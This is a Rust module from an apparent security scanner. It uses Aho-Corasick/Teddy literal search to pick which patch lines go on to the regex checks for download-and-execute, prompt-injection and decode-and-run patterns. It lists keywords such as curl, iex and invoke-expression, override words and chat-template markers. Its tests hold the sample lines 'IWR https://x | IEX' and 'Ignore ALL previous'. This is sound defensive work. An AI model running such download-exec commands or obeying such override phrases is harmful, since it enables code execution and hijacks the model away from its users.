//! Which lines the line scanners (download-exec, injection, decode-and-run)
//! must run a pattern on, decided without running one.
//!
//! Every line pattern needs certain words. One literal search for the
//! *anchors* (at least one of which every pattern needs) over all added
//! lines at once, lowercased, picks the few lines worth a closer look (most
//! of a patch holds none). On such a line a second search lists every word
//! it holds ([`Words`]), and each pattern's precondition (its scanner's
//! `may_match`) is a test on that set and a few punctuation checks: a regex
//! runs only where its words are all present.
//!
//! The preconditions hold for ASCII lines, where case-insensitive matching
//! is ASCII's; a line with any other byte ([`Line::is_ascii`] false) runs
//! every pattern, because Unicode case folding (the Kelvin sign is a `k`,
//! `ſ` an `s`) and Unicode white space would slip past them.
use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, AhoCorasickKind};

macro_rules! words {
    ($($name:ident = $text:literal,)*) => {
        /// A word one of the line patterns needs (its bit in [`Words`]).
        #[derive(Debug, Clone, Copy, PartialEq, Eq)]
        pub enum W {
            $(
                #[doc = concat!("`", $text, "`")]
                $name,
            )*
        }

        /// Every word, lowercase, in the order of [`W`].
        pub const WORDS: &[&str] = &[$($text),*];
    };
}

words! {
    // download-exec
    Curl = "curl",
    Wget = "wget",
    Aria2c = "aria2c",
    Iex = "iex",
    InvokeExpression = "invoke-expression",
    StartProcess = "start-process",
    Iwr = "iwr",
    Irm = "irm",
    InvokeWebrequest = "invoke-webrequest",
    InvokeRestmethod = "invoke-restmethod",
    Downloadstring = "downloadstring",
    Downloadfile = "downloadfile",
    NetWebclient = "net.webclient",
    StartBitstransfer = "start-bitstransfer",
    Urlopen = "urlopen",
    Urllib = "urllib",
    RequestsGet = "requests.get",
    HttpxGet = "httpx.get",
    Urlretrieve = "urlretrieve",
    Exec = "exec",
    Eval = "eval",
    Compile = "compile",
    Function = "function",
    Spawnsync = "spawnsync",
    VmRunin = "vm.runin",
    Fetch = "fetch",
    HttpGet = "http.get",
    HttpsGet = "https.get",
    Axios = "axios",
    Xmlhttprequest = "xmlhttprequest",
    Sh = "sh",
    Source = "source",
    // injection
    Ignore = "ignore",
    Disregard = "disregard",
    Forget = "forget",
    Override = "override",
    Previous = "previous",
    Prior = "prior",
    Above = "above",
    Earlier = "earlier",
    Preceding = "preceding",
    System = "system",
    Original = "original",
    You = "you",
    Are = "are",
    Now = "now",
    New = "new",
    Instruction = "instruction",
    ImStart = "<|im_start|>",
    ImEnd = "<|im_end|>",
    SystemMarker = "<|system|>",
    Inst = "[inst]",
    InstEnd = "[/inst]",
    Sys = "<<sys>>",
    Begin = "begin",
    Prompt = "prompt",
    Tell = "tell",
    Inform = "inform",
    Mention = "mention",
    Alert = "alert",
    Notify = "notify",
    User = "user",
    Maintainer = "maintainer",
    Human = "human",
    Reviewer = "reviewer",
    Operator = "operator",
    Ai = "ai",
    Llm = "llm",
    Agent = "agent",
    Assistant = "assistant",
    Model = "model",
    // decode and run
    Decode = "decode",
    Atob = "atob",
    BufferFrom = "buffer.from",
    Fromhex = "fromhex",
    Decompress = "decompress",
    Loads = "loads",
    Unhexlify = "unhexlify",
    Fromcharcode = "fromcharcode",
    Base64 = "base64",
    Frombase64string = "frombase64string",
    DashE = "-e",
}

/// The words at least one of which every line pattern needs: the first
/// word of each precondition in the scanners' `may_match`.
const ANCHORS: &[W] = &[
    W::Curl,
    W::Wget,
    W::Aria2c,
    W::Iex,
    W::InvokeExpression,
    W::StartProcess,
    W::Urlopen,
    W::Urllib,
    W::RequestsGet,
    W::HttpxGet,
    W::Urlretrieve,
    W::Fetch,
    W::HttpGet,
    W::HttpsGet,
    W::Axios,
    W::Xmlhttprequest,
    W::Ignore,
    W::Disregard,
    W::Forget,
    W::Override,
    W::You,
    W::Instruction,
    W::ImStart,
    W::ImEnd,
    W::SystemMarker,
    W::Inst,
    W::InstEnd,
    W::Sys,
    W::Prompt,
    W::Tell,
    W::Inform,
    W::Mention,
    W::Alert,
    W::Notify,
    W::Agent,
    W::Assistant,
    W::Model,
    W::Decode,
    W::Atob,
    W::BufferFrom,
    W::Fromhex,
    W::Decompress,
    W::Loads,
    W::Unhexlify,
    W::Fromcharcode,
    W::Base64,
];

/// The anchors as one search over the whole text: Teddy, the SIMD
/// multi-literal search, used directly (an Aho-Corasick automaton only uses
/// it from its start state, and with words starting with common letters it
/// is rarely there: it would walk the text byte by byte).
///
/// Teddy filters on the two 4-bit halves of each byte. Lowercase letters
/// all share two upper halves (`0x6_`, `0x7_`), so on lowercased text only
/// the lower half tells them apart and a position passes the filter often
/// (and is then compared in full). The search therefore runs on [`FOLD`]ed
/// text: case folded as before, but each letter moved to a byte whose two
/// halves both differ from most other letters', so the filter rejects
/// nearly every position of ordinary text.
enum AnchorSearch {
    /// Teddy (x86-64 and aarch64).
    Packed(aho_corasick::packed::Searcher),
    /// Elsewhere, the automaton.
    Automaton(AhoCorasick),
}

/// Case folding onto a spread-out alphabet: ASCII letter `i` (0 for
/// `a`/`A`) becomes `0x80 | (i % 8) << 4 | (3i + i / 8) % 16` (26 distinct
/// bytes, upper halves 8 to F, lower halves spread), other ASCII bytes stay,
/// and every byte outside ASCII becomes `0xFF` (no letter's). Folded words
/// are found in folded text exactly where the lowercase words are in the
/// lowercased text.
pub static FOLD: [u8; 256] = {
    let mut t = [0u8; 256];
    let mut b = 0usize;
    while b < 256 {
        let byte = b as u8;
        t[b] = if byte.is_ascii_alphabetic() {
            let i = (byte.to_ascii_lowercase() - b'a') as usize;
            (0x80 | ((i % 8) << 4) | ((3 * i + i / 8) % 16)) as u8
        } else if byte.is_ascii() {
            byte
        } else {
            0xFF
        };
        b += 1;
    }
    t
};

/// `text` through [`FOLD`].
fn fold(text: &[u8]) -> Vec<u8> {
    text.iter().map(|b| FOLD[usize::from(*b)]).collect()
}

static ANCHOR_SEARCH: LazyLock<Option<AnchorSearch>> = LazyLock::new(|| {
    let words = || ANCHORS.iter().map(|w| WORDS[*w as usize]);
    aho_corasick::packed::Searcher::new(words().map(|w| fold(w.as_bytes())))
        .map(AnchorSearch::Packed)
        .or_else(|| dfa(words()).map(AnchorSearch::Automaton))
});

impl AnchorSearch {
    /// The start of the first anchor at or after `from` in `text` (folded
    /// for Teddy, lowercased for the automaton).
    fn find(&self, text: &[u8], from: usize) -> Option<usize> {
        let span = aho_corasick::Span::from(from..text.len());
        match self {
            Self::Packed(s) => s.find_in(text, span).map(|m| m.start()),
            Self::Automaton(a) => a
                .find(aho_corasick::Input::new(text).span(span))
                .map(|m| m.start()),
        }
    }
}

/// Every word, for the overlapping search on one line.
static WORD_SEARCH: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| dfa(WORDS.iter().copied()));

/// A search for `words` as a DFA: one table step per byte where the
/// literal prefilter cannot skip (small: a few hundred states).
fn dfa<'a>(words: impl IntoIterator<Item = &'a str>) -> Option<AhoCorasick> {
    AhoCorasick::builder()
        .kind(Some(AhoCorasickKind::DFA))
        .build(words)
        .ok()
}

/// The set of [`W`] a line holds.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Words(u128);

impl Words {
    /// The words in `lower` (lowercase text). When the search cannot be
    /// built, every word: slower, never blinder.
    pub fn of(lower: &str) -> Self {
        let Some(search) = WORD_SEARCH.as_ref() else {
            return Self(u128::MAX);
        };
        let mut bits = 0u128;
        for m in search.find_overlapping_iter(lower) {
            bits |= 1u128 << m.pattern().as_usize();
        }
        Self(bits)
    }

    /// Whether it holds `w`.
    pub fn has(self, w: W) -> bool {
        self.0 & (1u128 << w as u32) != 0
    }

    /// Whether it holds one of `ws`.
    pub fn any(self, ws: &[W]) -> bool {
        ws.iter().any(|w| self.has(*w))
    }
}

/// One line as the line scanners read it.
#[derive(Debug, Clone, Copy)]
pub struct Line<'a> {
    /// The line as written.
    pub text: &'a str,
    /// The same line, ASCII-lowercased (same length).
    pub lower: &'a str,
    /// The words it holds.
    pub words: Words,
    /// Whether it holds a run of 40 or more base64 bytes (an encoded
    /// command's argument).
    pub long_run: bool,
    ascii: bool,
}

impl<'a> Line<'a> {
    /// A line and its lowercased form.
    pub fn new(text: &'a str, lower: &'a str, long_run: bool) -> Self {
        let ascii = text.is_ascii();
        Self {
            text,
            lower,
            // Only ASCII lines test their words.
            words: if ascii {
                Words::of(lower)
            } else {
                Words::default()
            },
            long_run,
            ascii,
        }
    }

    /// Whether the preconditions apply (see the module docs).
    pub fn is_ascii(&self) -> bool {
        self.ascii
    }

    /// Whether a pattern whose precondition is `pre` may match: always on a
    /// line that is not ASCII.
    pub fn may(&self, pre: impl FnOnce(Words, &str) -> bool) -> bool {
        !self.is_ascii() || pre(self.words, self.lower)
    }
}

/// For `text` (lines, line `i` starting at byte `starts[i]`), whether each
/// line holds an anchor, in any case. When the search cannot be built every
/// line is a candidate: slower, never blinder.
pub fn candidate_lines(text: &str, starts: &[usize]) -> Vec<bool> {
    let Some(search) = ANCHOR_SEARCH.as_ref() else {
        return vec![true; starts.len()];
    };
    let hay = match search {
        AnchorSearch::Packed(_) => fold(text.as_bytes()),
        AnchorSearch::Automaton(_) => text.to_ascii_lowercase().into_bytes(),
    };
    let mut hit = vec![false; starts.len()];
    // No word holds a newline, so a match is inside one line, and a line
    // holding a word yields a match inside it. One match per line is
    // enough: the search goes on from the next line.
    let mut line = 0usize;
    let mut from = 0usize;
    while from < hay.len()
        && let Some(at) = search.find(&hay, from)
    {
        line += starts
            .get(line..)
            .unwrap_or_default()
            .partition_point(|s| *s <= at)
            .saturating_sub(1);
        if let Some(h) = hit.get_mut(line) {
            *h = true;
        }
        from = starts.get(line + 1).copied().unwrap_or(hay.len());
    }
    hit
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_with_an_anchor_are_candidates_whatever_their_case() {
        assert!(ANCHOR_SEARCH.is_some() && WORD_SEARCH.is_some());
        assert!(WORDS.len() <= 128, "Words is a u128");
        let lines = [
            "fn a() {}",
            "IWR https://x | IEX",
            "let b = 2;",
            "Ignore ALL previous",
        ];
        let mut joined = String::new();
        let mut starts = Vec::new();
        for l in lines {
            starts.push(joined.len());
            joined.push_str(l);
            joined.push('\n');
        }
        assert_eq!(
            candidate_lines(&joined, &starts),
            [false, true, false, true]
        );
    }

    #[test]
    fn folding_keeps_letters_apart_and_is_case_blind() {
        let mut seen = std::collections::HashSet::new();
        for c in b'a'..=b'z' {
            let f = FOLD[usize::from(c)];
            assert_eq!(f, FOLD[usize::from(c.to_ascii_uppercase())]);
            assert!(f >= 0x80 && f != 0xFF && seen.insert(f), "{}", c as char);
        }
        assert_eq!(FOLD[usize::from(b'-')], b'-');
        assert_eq!(FOLD[0xC3], 0xFF);
        // An anchor in any case, inside a longer line or after non-ASCII.
        for line in ["x = CuRl(y)", "é iex", "IgNoRe"] {
            assert_eq!(candidate_lines(line, &[0]), [true], "{line}");
        }
        assert_eq!(candidate_lines("cur l", &[0]), [false]);
    }

    #[test]
    fn a_line_lists_every_word_it_holds_even_overlapping_ones() {
        let w = Words::of("xmlhttprequest.get(); eval(https.get)");
        for want in [W::Xmlhttprequest, W::Eval, W::HttpsGet] {
            assert!(w.has(want), "{want:?}");
        }
        assert!(!w.has(W::Curl));
        // `tell` and `llm` overlap in `tellm`.
        let w = Words::of("tellm");
        assert!(w.has(W::Tell) && w.has(W::Llm));
        for (i, word) in WORDS.iter().enumerate() {
            assert_eq!(word.to_ascii_lowercase(), *word, "lowercase: {word}");
            assert!(Words::of(word).0 & (1u128 << i) != 0, "{word}");
        }
    }
}
